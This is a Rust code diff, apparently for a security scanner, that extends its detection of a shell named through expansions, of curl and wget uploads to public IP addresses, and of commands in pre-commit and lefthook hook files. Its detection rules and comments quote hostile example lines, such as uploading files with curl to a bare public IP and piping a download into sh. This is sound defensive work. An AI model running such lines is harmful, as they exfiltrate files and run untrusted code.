@@ -1402,6 +1402,29 @@ fn is_shell(n: &str) -> bool {
         || n.strip_prefix("${shell:-").is_some_and(|d| d.strip_suffix('}').is_some_and(|d| SHELLS.contains(&base(d))))
 }
 
+/// Whether the command at `idx`, named by an expansion, runs a shell: a
+/// substitution that prints a shell's path (`$(command -v sh)`, `$(which
+/// bash)`, `` `echo sh` ``), make's `$(SHELL)` (a recipe's shell; `$$SHELL`
+/// is the login shell), `$0` (the running shell), any expansion of
+/// `SHELL` or `BASH` (`${SHELL%/}`), or a variable the program set to a
+/// shell (`vars`).
+fn computed_shell(cmds: &[Cmd], idx: usize, vars: &[String]) -> bool {
+    let Some(w) = cmds.get(idx).and_then(Cmd::name_word) else { return false };
+    if w.subst {
+        return cmds.iter().filter(|i| i.parent == Some(idx) && i.in_subst).take(8).any(|i| {
+            let last = i.arg_texts().last().map(|t| base(t).to_ascii_lowercase());
+            i.name() == "shell"
+                || matches!(i.name(), "command" | "which" | "type" | "whence" | "echo" | "printf")
+                    && last.is_some_and(|l| SHELLS.contains(&l.as_str()))
+        });
+    }
+    let t = w.text.to_ascii_lowercase();
+    let Some(var) = t.strip_prefix("$$").or_else(|| t.strip_prefix('$')) else { return false };
+    let var = var.strip_prefix('{').unwrap_or(var);
+    let name = var.get(..var.bytes().take_while(|b| b.is_ascii_alphanumeric() || *b == b'_').count()).unwrap_or("");
+    matches!(name, "0" | "shell" | "bash") || vars.iter().any(|v| v == name)
+}
+
 fn is_interp(n: &str) -> bool {
     is_shell(n)
         || n.starts_with("python")
@@ -1497,19 +1520,163 @@ fn internal_host(host: &str) -> bool {
     !h.contains('.') || h == "localhost" || super::ssrf::INTERNAL_SUFFIXES.iter().any(|s| h.ends_with(s))
 }
 
-/// Whether `url`'s host is a public IPv4 address: written as such, as one
-/// number (`http://755407982/`, `0x2d09946e`: what curl resolves it to), or
-/// embedded in a wildcard-DNS name (`45.9.148.110.nip.io`).
+/// Whether `url`'s host is a public IP address: an IPv4 address written as
+/// such, as one number (`http://755407982/`, `0x2d09946e`: what curl
+/// resolves it to) or mapped into IPv6 (`[::ffff:45.9.148.110]`), or a
+/// name of a wildcard-DNS service (`45.9.148.110.nip.io`, with or without
+/// its root's dot) that embeds no internal IPv4 address. A curl glob
+/// (`http://{755407982}/`, `{a,b}`) is read as each of its first
+/// alternatives.
 fn public_address(url: Option<&str>) -> bool {
     let Some(u) = url else { return false };
     let rest = u.split_once("://").map_or(u, |(_, r)| r);
     let host_port = rest.split(['/', '?', '#']).next().unwrap_or("");
-    let host = host_port.rsplit('@').next().unwrap_or(host_port).split(':').next().unwrap_or("").to_ascii_lowercase();
-    let ip = host.parse::<std::net::Ipv4Addr>().ok().or_else(|| match url::Host::parse(&host) {
-        Ok(url::Host::Ipv4(ip)) => Some(ip),
-        _ => super::ssrf::wildcard_dns(&host).flatten(),
-    });
-    ip.is_some_and(|ip| !(ip.is_loopback() || ip.is_private() || ip.is_link_local() || ip.is_unspecified() || ip.is_documentation()))
+    let host_port = host_port.rsplit('@').next().unwrap_or(host_port).to_ascii_lowercase();
+    // (`[v6]:port`, else `host:port`.)
+    let host = match host_port.strip_prefix('[') {
+        Some(v6) => format!("[{}]", v6.split(']').next().unwrap_or("")),
+        None => host_port.split(':').next().unwrap_or("").to_owned(),
+    };
+    let public = |host: &str| {
+        let host = host.strip_suffix('.').unwrap_or(host);
+        let ip = match host.parse::<std::net::Ipv4Addr>().ok() {
+            Some(ip) => Some(ip),
+            None => match url::Host::parse(host) {
+                Ok(url::Host::Ipv4(ip)) => Some(ip),
+                Ok(url::Host::Ipv6(ip)) => match ip.to_ipv4_mapped() {
+                    Some(v4) => Some(v4),
+                    None => {
+                        return !(ip.is_loopback()
+                            || ip.is_unspecified()
+                            || (ip.segments()[0] & 0xfe00) == 0xfc00
+                            || (ip.segments()[0] & 0xffc0) == 0xfe80);
+                    }
+                },
+                // (A wildcard name whose address is not one we read, such as
+                // sslip.io's IPv6 form, names no service anyone runs.)
+                _ => match super::ssrf::wildcard_dns(host) {
+                    Some(Some(ip)) => Some(ip),
+                    Some(None) => return true,
+                    None => None,
+                },
+            },
+        };
+        ip.is_some_and(|ip| !(ip.is_loopback() || ip.is_private() || ip.is_link_local() || ip.is_unspecified() || ip.is_documentation()))
+    };
+    match (host.find('{'), host.find('}')) {
+        (Some(open), Some(close)) if open < close => {
+            let (head, tail) = (host.get(..open).unwrap_or(""), host.get(close + 1..).unwrap_or(""));
+            host.get(open + 1..close).unwrap_or("").split(',').take(16).any(|alt| public(&format!("{head}{alt}{tail}")))
+        }
+        _ => public(&host),
+    }
+}
+
+/// Every address a curl or wget command line sends to: its arguments that
+/// are no option and no option's value (`-T FILE`, `-e REFERER`, `-x
+/// PROXY`...), with or without a scheme, and the addresses `--resolve
+/// HOST:PORT:ADDR` and `--connect-to HOST:PORT:ADDR:PORT` route them to.
+fn destinations<'a>(args: &[&'a str], wget: bool) -> Vec<std::borrow::Cow<'a, str>> {
+    const VALUED: &[&str] = &[
+        "-T",
+        "--upload-file",
+        "-d",
+        "--data",
+        "--data-binary",
+        "--data-raw",
+        "--data-urlencode",
+        "--json",
+        "-F",
+        "--form",
+        "--form-string",
+        "-o",
+        "--output",
+        "-H",
+        "--header",
+        "-e",
+        "--referer",
+        "-x",
+        "--proxy",
+        "--preproxy",
+        "-U",
+        "--proxy-user",
+        "-u",
+        "--user",
+        "-A",
+        "--user-agent",
+        "-b",
+        "--cookie",
+        "-c",
+        "--cookie-jar",
+        "-K",
+        "--config",
+        "-w",
+        "--write-out",
+        "-X",
+        "--request",
+        "-m",
+        "--max-time",
+        "--connect-timeout",
+        "-r",
+        "--range",
+        "-C",
+        "--continue-at",
+        "-E",
+        "--cert",
+        "--key",
+        "--cacert",
+        "--capath",
+        "-D",
+        "--dump-header",
+        "-y",
+        "-Y",
+        "-z",
+        "--retry",
+        "--limit-rate",
+        "--interface",
+        "--dns-servers",
+        "--post-file",
+        "--body-file",
+        "--post-data",
+        "--body-data",
+        "--output-document",
+        "-P",
+        "--directory-prefix",
+        "--header-file",
+        "-t",
+        "--tries",
+        "--method",
+        "--append-output",
+        "--output-file",
+        "--resolve",
+        "--connect-to",
+    ];
+    // (wget's `-O FILE` and `-a LOG`; curl's `-O` and `-a` take none.)
+    let valued = |o: &str| VALUED.contains(&o) || wget && matches!(o, "-O" | "-a");
+    let mut out = Vec::new();
+    let mut prev = "";
+    for a in args.iter().copied().take(256) {
+        // (A bundle of short options takes its value for its last letter.)
+        let takes = valued(prev)
+            || prev.len() > 2
+                && prev.starts_with('-')
+                && !prev.starts_with("--")
+                && valued(&prev.get(prev.len() - 1..).map_or(String::new(), |l| format!("-{l}")));
+        if matches!(prev, "--resolve" | "--connect-to") {
+            // (`[v6]` parts aside, the address is the third field.)
+            if let Some(addr) = a.split(':').nth(2).filter(|x| !x.is_empty()) {
+                out.push(std::borrow::Cow::Owned(addr.trim_matches(['[', ']']).to_owned()));
+            }
+        } else if let Some(v) = a.strip_prefix("--resolve=").or_else(|| a.strip_prefix("--connect-to=")) {
+            if let Some(addr) = v.split(':').nth(2).filter(|x| !x.is_empty()) {
+                out.push(std::borrow::Cow::Owned(addr.trim_matches(['[', ']']).to_owned()));
+            }
+        } else if !takes && !a.starts_with('-') {
+            out.push(std::borrow::Cow::Borrowed(a));
+        }
+        prev = a;
+    }
+    out
 }
 
 /// The riskiest URL a downloader fetches (the first of equals): curl
@@ -2094,6 +2261,15 @@ fn judge(cmds: &[Cmd], out: &mut Out<'_>) {
             downloads.push((base(u.split(['?', '#']).next().unwrap_or("")).to_owned(), risk));
         }
     }
+    // Variables the program sets to a shell (`S=$SHELL`, `SH=/bin/bash`).
+    let shell_vars: Vec<String> = cmds
+        .iter()
+        .flat_map(|c| c.assigns.iter())
+        .filter_map(|a| a.split_once('='))
+        .filter(|(_, v)| is_shell(&base(v.trim_matches(['"', '\''])).to_ascii_lowercase()))
+        .map(|(k, _)| k.to_ascii_lowercase())
+        .take(16)
+        .collect();
     // (Only a downloader's upload reads them.)
     let staged = if cmds.iter().any(|c| matches!(c.name(), "curl" | "wget")) { staged_secrets(cmds) } else { Vec::new() };
     for (idx, c) in cmds.iter().enumerate() {
@@ -2294,8 +2470,9 @@ fn judge(cmds: &[Cmd], out: &mut Out<'_>) {
                 }
             }
         }
-        // Network client output piped into a shell.
-        if is_interp(&n) && reads_stdin(c) {
+        // Network client output piped into a shell (named, or computed:
+        // `$(command -v sh)`, make's `$(SHELL)`, `$0`, `$S` after `S=$SHELL`).
+        if (is_interp(&n) || c.pipe_prev.is_some() && computed_shell(cmds, idx, &shell_vars)) && reads_stdin(c) {
             for f in &feeds {
                 let fname = f.name();
                 if NET_CLIENTS.contains(&fname) && (fname != "openssl" || f.arg_texts().any(|t| t == "s_client")) {
@@ -2473,8 +2650,10 @@ fn judge(cmds: &[Cmd], out: &mut Out<'_>) {
                     a.to_owned()
                 }
             };
-            // Where it sends: the URL (not a file path with a dot and a slash).
-            let target = args.iter().find(|a| super::has(a, "://")).copied();
+            // Where it sends: any public address among its destinations
+            // (not a referer's or a proxy's; with no scheme; through
+            // `--resolve`).
+            let sends_public = destinations(&args, n == "wget").iter().any(|d| public_address(Some(d)));
             let mut next_prev = String::new();
             for a in &args {
                 let prev_owned = std::mem::replace(&mut next_prev, last_of(a));
@@ -2508,7 +2687,7 @@ fn judge(cmds: &[Cmd], out: &mut Out<'_>) {
                     } else if (matches!(prev, "-T" | "--upload-file" | "--post-file" | "--body-file")
                         || inline.is_some()
                         || v.contains('@'))
-                        && public_address(target)
+                        && sends_public
                     {
                         // A file sent to a bare public address (`curl -T {}
                         // http://45.9.148.110/up/` under `find -exec`): no
@@ -4474,17 +4653,122 @@ pub(crate) fn build_file(field: &str) -> bool {
 }
 
 /// Whether the last letters and digits of `text`, lower-cased, are `file`,
-/// `yaml` or `yml`: every [`BUILD_FILES`] name ends so (most fields are
-/// told apart by this test alone), and so does any text that ends with one.
+/// `yaml`, `yml`, `toml` or `json`: every [`BUILD_FILES`] name ends so
+/// (most fields are told apart by this test alone), and so does any text
+/// that ends with one.
 pub(crate) fn ends_like_build_file(text: &str) -> bool {
-    let last = || text.bytes().rev().filter(u8::is_ascii_alphanumeric).map(|b| b.to_ascii_lowercase());
-    last().take(4).eq(b"elif".iter().copied()) || last().take(4).eq(b"lmay".iter().copied()) || last().take(3).eq(b"lmy".iter().copied())
+    // (The last four letters and digits, lower-cased, read once from the end.)
+    let mut last = [0u8; 4];
+    let mut n = 0;
+    for b in text.bytes().rev().filter(u8::is_ascii_alphanumeric).take(4) {
+        last[n] = b.to_ascii_lowercase();
+        n += 1;
+    }
+    let ends = |tail: &[u8]| n >= tail.len() && last.get(..tail.len()) == Some(tail);
+    ends(b"elif") || ends(b"lmay") || ends(b"lmy") || ends(b"lmot") || ends(b"nosj")
 }
 
 /// [`build_file`] for a field name already reduced to its lower-case
 /// letters and digits.
 pub(crate) fn is_build_file_name(f: &str) -> bool {
     BUILD_FILES.contains(&f)
+}
+
+/// The command lines the hooks of a git hook manager's configuration run,
+/// when `name` names one (`.pre-commit-config.yaml`,
+/// `.pre-commit-hooks.yaml`, `lefthook.yml`, `lefthook.toml`...) and
+/// `text` parses as its format: YAML (flow style, folded and quoted
+/// scalars, anchors and aliases as the manager reads them; serde_norway
+/// bounds alias expansion), TOML or JSON. Each `run` (lefthook) and each
+/// `entry` (pre-commit), with its `args` appended; a shell given `-c` in
+/// them (`entry: bash`, `args: [-c, '...']`) runs the script after it.
+/// `None` for another file or a text the manager could not read either
+/// (the line reading of [`build_steps`] judges it then).
+fn hook_commands(name: &str, text: &str) -> Option<Vec<String>> {
+    let (mut buf, mut owned) = ([0u8; 64], String::new());
+    let reduced = super::reduce_name(name, u8::is_ascii_alphanumeric, |b| b.to_ascii_lowercase(), &mut buf, &mut owned);
+    if !(reduced.starts_with("precommit") || reduced.starts_with("lefthook")) {
+        return None;
+    }
+    let value: serde_json::Value = if reduced.ends_with("toml") {
+        toml::from_str(text).ok()?
+    } else if reduced.ends_with("json") {
+        serde_json::from_str(text).ok()?
+    } else {
+        serde_norway::from_str(text).ok()?
+    };
+    let mut commands = Vec::new();
+    let mut stack = vec![&value];
+    while let Some(v) = stack.pop() {
+        if commands.len() >= 64 {
+            break;
+        }
+        match v {
+            serde_json::Value::Array(items) => stack.extend(items.iter().take(1024)),
+            serde_json::Value::Object(map) => {
+                if let Some(run) = map.get("run").and_then(|r| r.as_str()) {
+                    // (lefthook's `env:` of the command: `run: $DL | sh`
+                    // runs what `DL` holds.)
+                    let env = map.get("env").and_then(|e| e.as_object());
+                    commands.push(env.map_or_else(|| run.to_owned(), |env| expand(run, env)));
+                }
+                if let Some(entry) = map.get("entry").and_then(|e| e.as_str()) {
+                    let args: Vec<&str> = map
+                        .get("args")
+                        .and_then(|a| a.as_array())
+                        .map(|a| a.iter().filter_map(|x| x.as_str()).take(64).collect())
+                        .unwrap_or_default();
+                    let program = shlex::split(entry).unwrap_or_default();
+                    let shell = program.first().is_some_and(|p| is_shell(&p.rsplit('/').next().unwrap_or(p).to_ascii_lowercase()));
+                    // `-c`, or short options ending in it (`-ec`), in the
+                    // entry or its arguments: the script is the next word.
+                    let all: Vec<&str> = program.iter().skip(1).map(String::as_str).chain(args.iter().copied()).collect();
+                    let script = all.iter().position(|a| a.len() >= 2 && a.starts_with('-') && !a.starts_with("--") && a.ends_with('c'));
+                    match script.and_then(|c| all.get(c + 1)).filter(|_| shell) {
+                        Some(body) => commands.push((*body).to_owned()),
+                        None if args.is_empty() => commands.push(entry.to_owned()),
+                        None => commands.push(format!("{entry} {}", shlex::try_join(args).unwrap_or_default())),
+                    }
+                }
+                stack.extend(map.values().take(1024));
+            }
+            _ => {}
+        }
+    }
+    Some(commands)
+}
+
+/// `run` with each `$NAME` and `${NAME}` of `env` replaced by its string
+/// value (one pass: a value is not expanded again).
+fn expand(run: &str, env: &serde_json::Map<String, serde_json::Value>) -> String {
+    let mut out = String::with_capacity(run.len());
+    let mut rest = run;
+    while let Some(p) = rest.find('$') {
+        out.push_str(rest.get(..p).unwrap_or(""));
+        let after = rest.get(p + 1..).unwrap_or("");
+        let (name, used) = match after.strip_prefix('{') {
+            Some(b) => match b.find('}') {
+                Some(e) => (b.get(..e).unwrap_or(""), e + 2),
+                None => ("", 0),
+            },
+            None => {
+                let n = after.bytes().take_while(|c| c.is_ascii_alphanumeric() || *c == b'_').count();
+                (after.get(..n).unwrap_or(""), n)
+            }
+        };
+        match env.get(name).and_then(|v| v.as_str()).filter(|_| !name.is_empty()) {
+            Some(value) => {
+                out.push_str(value);
+                rest = after.get(used..).unwrap_or("");
+            }
+            None => {
+                out.push('$');
+                rest = after;
+            }
+        }
+    }
+    out.push_str(rest);
+    out
 }
 
 /// Build files named for their content.
@@ -4506,10 +4790,16 @@ const BUILD_FILES: &[&str] = &[
     // Git hook managers: their commands run on every commit.
     "precommitconfigyaml",
     "precommitconfigyml",
+    "precommithooksyaml",
+    "precommithooksyml",
     "lefthookyml",
     "lefthookyaml",
+    "lefthooktoml",
+    "lefthookjson",
     "lefthooklocalyml",
     "lefthooklocalyaml",
+    "lefthooklocaltoml",
+    "lefthooklocaljson",
 ];
 
 /// Whether `t` enters the node through PID 1 (written as a command line,
@@ -4704,10 +4994,29 @@ fn build_steps<'a>(t: &'a str) -> impl Iterator<Item = (&'a str, usize)> {
         // `run:` in `lefthook.yml`) is the value of its key.
         let command = |cmd: &'a str, at: usize| -> (&'a str, usize) {
             let mut c = cmd;
-            // (`$(Q)`, `${Q}`, make's one-letter `$Q`, repeated.)
+            // (`$(Q)`, `${Q}`, make's one-letter `$Q`, repeated; a
+            // blank after a silencer, `$(Q) curl`, changes nothing; make's
+            // functions nest, `$(if $(V),,@)curl`.)
             for _ in 0..4 {
                 let glued = |open: &str, close: char| {
-                    c.strip_prefix(open).and_then(|r| r.find(close).map(|p| p + open.len() + 1)).filter(|&p| p <= 32)
+                    let body = c.strip_prefix(open)?;
+                    let mut depth = 1usize;
+                    let end = body.char_indices().take(48).find_map(|(i, ch)| {
+                        if ch == '(' || ch == '{' {
+                            depth += 1;
+                        } else if ch == close || ch == ')' || ch == '}' {
+                            depth -= 1;
+                        }
+                        (depth == 0).then_some(i)
+                    })?;
+                    let after = body.get(end + 1..)?;
+                    // (A blank only after a silencer's short name, `Q`,
+                    // `AT`, or make's `if`: `$(DOCKER) run` names the
+                    // command itself.)
+                    let inner = body.get(..end).unwrap_or("");
+                    let silencer = inner.len() <= 3 && inner.bytes().all(|b| b.is_ascii_uppercase()) || inner.starts_with("if ");
+                    let blanks = if silencer { after.len() - after.trim_start_matches([' ', '\t']).len() } else { 0 };
+                    Some(open.len() + end + 1 + blanks)
                 };
                 let end = glued("$(", ')').or_else(|| glued("${", '}')).or_else(|| {
                     // (`$Qcurl`: one capital, then the command's lower case;
@@ -4872,6 +5181,22 @@ pub(crate) fn analyze(s: &Subject<'_>, out: &mut Vec<Hit>) {
             run_program(t, out);
         }
         Context::Unknown | Context::Text if build_file(s.field) => {
+            // A git hook manager's configuration, read by its own grammar:
+            // the commands its hooks run, however the file spells them.
+            if let Some(commands) = hook_commands(s.field, t) {
+                for command in commands.iter().take(64) {
+                    let before = out.len();
+                    run_program(command, out);
+                    // (Where the command is written as it runs; else the
+                    // file's head.)
+                    let at = t.find(command.as_str()).map_or(0..t.len().min(64), |p| p..p + command.len());
+                    for h in out.iter_mut().skip(before) {
+                        h.confidence = lower(h.confidence);
+                        h.at = at.clone();
+                    }
+                }
+                return;
+            }
             // A build file's steps (`sh '...'` in a Jenkinsfile, `RUN` in a
             // Dockerfile, a Makefile's recipe lines) run on every build:
             // judged as command lines, one level lower (this call writes them).
@@ -5444,7 +5769,7 @@ mod tests {
     /// reduced, and its quick test holds: every name ends with `file`, `yaml` or `yml`.
     #[test]
     fn build_file_names_compare_in_place() {
-        assert!(BUILD_FILES.iter().all(|n| n.ends_with("file") || n.ends_with("yaml") || n.ends_with("yml")));
+        assert!(BUILD_FILES.iter().all(|n| ["file", "yaml", "yml", "toml", "json"].iter().any(|e| n.ends_with(e))));
         assert!(BUILD_FILES.iter().all(|n| ends_like_build_file(n)));
         assert!(build_file(".pre-commit-config.yaml") && build_file("lefthook.yml") && !build_file("config.yml"));
         for name in BUILD_FILES {
